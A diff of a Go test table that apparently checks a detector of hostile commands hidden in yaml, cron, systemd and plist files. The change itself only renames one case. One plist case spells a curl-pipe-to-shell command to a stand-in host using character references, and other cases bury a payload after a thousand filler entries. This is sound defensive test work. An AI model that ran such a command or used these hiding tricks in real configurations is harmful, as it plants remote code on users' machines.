@@ -191,7 +191,7 @@ func TestHidden(t *testing.T) {
 		"in flow style":                        {"yaml", `a: {b: [{"run": "` + evil + `"}]}` + "\n", ""},
 		"in the last of many entries":          {"cron", strings.Repeat("* * * * * true\n", 1000) + "@daily " + evil + "\n", ""},
 		"with many signs before it":            {"unit", "ExecStart=@-!!+" + evil + "\n", ""},
-		"as the update of the message of many": {"plist", "<key>ProgramArguments</key><array>" + strings.Repeat("<string>-v</string>", 1000) + "<string>" + evil + "</string></array>", ""},
+		"as the last word of many": {"plist", "<key>ProgramArguments</key><array>" + strings.Repeat("<string>-v</string>", 1000) + "<string>" + evil + "</string></array>", ""},
 		"with references for its characters":   {"plist", "<key>Program</key><string>&#99;url -s https://x.test/a &#x7c; sh</string>", ""},
 	} {
 		var goals []string
